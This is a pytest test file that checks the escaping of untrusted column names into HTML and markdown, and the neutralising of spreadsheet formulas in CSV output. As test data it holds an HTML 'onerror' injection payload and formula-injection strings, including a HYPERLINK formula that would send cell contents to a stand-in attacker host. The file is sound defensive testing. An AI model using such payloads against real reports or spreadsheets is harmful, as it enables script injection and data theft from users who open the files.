"""Untrusted text: HTML and markdown escaping, CSV neutralisation, the hostile-names corpus."""

from __future__ import annotations

import html
import importlib.util
import json
from pathlib import Path

import pandas as pd
import pytest

from analysis.safe_text import csv_cell, html_text, markdown_text, visible_text

HOSTILE = Path(__file__).parent / "data" / "hostile_names"


def _corpus_module():
    spec = importlib.util.spec_from_file_location("make_corpus", HOSTILE / "make_corpus.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


CORPUS = _corpus_module()
NAMES = CORPUS.names()


def render_markdown(text: str) -> str:
    """What nbconvert makes of a markdown cell (the renderer of report.html)."""
    from nbconvert.filters.markdown import markdown2html_mistune

    return markdown2html_mistune(text)


def test_corpus_file_is_what_the_script_writes():
    assert (HOSTILE / "hostile_columns.csv").read_text(encoding="utf-8") == CORPUS.corpus()
    assert len(NAMES) >= 15 and max(map(len, NAMES)) >= 5000
    documented = json.loads((HOSTILE / "names.json").read_text(encoding="utf-8"))["names"]
    assert all(entry["what"] for entry in documented)


def test_visible_text_shows_controls_and_direction_overrides():
    assert visible_text("a\x07b\x1b[31m") == "a\\x07b\\x1b[31m"
    assert visible_text("abc\u202eexe") == "abc\\u202eexe"
    assert visible_text("tab\there\nline") == "tab\\x09here\\x0aline"
    assert visible_text("Natrium é ü 日本") == "Natrium é ü 日本"


@pytest.mark.parametrize("name", NAMES)
def test_html_text_leaves_no_markup(name):
    escaped = html_text(name)
    assert "<" not in escaped and ">" not in escaped and '"' not in escaped
    assert html.unescape(escaped) == visible_text(name)


@pytest.mark.parametrize("name", NAMES)
def test_markdown_text_renders_as_exactly_the_text(name):
    rendered = render_markdown(f"Column: {markdown_text(name)}")
    body = rendered.strip().removeprefix("<p>").removesuffix("</p>")
    # one paragraph, no element of any kind, and the text is the name itself
    assert "<" not in body, rendered[:500]
    assert html.unescape(body) == f"Column: {visible_text(name)}"


@pytest.mark.parametrize("name", NAMES)
def test_markdown_text_is_safe_in_a_table_cell_and_a_list(name):
    table = render_markdown(f"| a | b |\n|---|---|\n| {markdown_text(name)} | x |")
    cells = [c.split("</td>")[0] for c in table.split("<td>")[1:]]
    assert [html.unescape(c) for c in cells] == [visible_text(name), "x"]
    item = render_markdown(f"- {markdown_text(name)}")
    assert html.unescape(item.split("<li>")[1].split("</li>")[0]) == visible_text(name)


def test_markdown_text_before_the_fix_would_have_been_markup():
    # what the report did before: the name straight into markdown
    assert "<img" in render_markdown('<img src=x onerror="go()">')
    assert "<em>" in render_markdown("Temp *C* __max__") or "<strong>" in render_markdown(
        "Temp *C* __max__"
    )
    assert "<img" not in render_markdown(markdown_text('<img src=x onerror="go()">'))


@pytest.mark.parametrize(
    "value,expected",
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+2", "'+1+2"),
        ("-3+4", "'-3+4"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tR5", "'\tR5"),
        ("\rR6", "'\rR6"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("-1e-3", "-1e-3"),
        ("R01", "R01"),
        ("", ""),
    ],
)
def test_csv_cell_neutralises_formulas_only(value, expected):
    assert csv_cell(value) == expected


def test_csv_cell_leaves_non_text_alone():
    assert csv_cell(-3.5) == -3.5
    assert csv_cell(None) is None
    assert csv_cell(7) == 7


def test_write_csv_neutralises_text_cells_and_keeps_numbers(tmp_path):
    from analysis.report import write_csv

    table = pd.DataFrame({"subject_id": CORPUS.IDS[:5], "sodium_change": [-2.0, -1.5, 0.0, 3.0, -7.0],
                          "group": ["cramp", "control", "cramp", "control", None]})  # fmt: skip
    path = tmp_path / "t.csv"
    write_csv(table, path)
    back = pd.read_csv(path, keep_default_na=False)
    assert list(back["subject_id"]) == [
        '\'=HYPERLINK("https://evil.example/?x="&A1,"click")', "'+1+2", "'-3+4",
        "'@SUM(A1:A9)", "'\tR5"]  # fmt: skip
    assert list(back["sodium_change"]) == [-2.0, -1.5, 0.0, 3.0, -7.0]
    assert path.read_text().splitlines()[1].endswith(",-2.0,cramp")
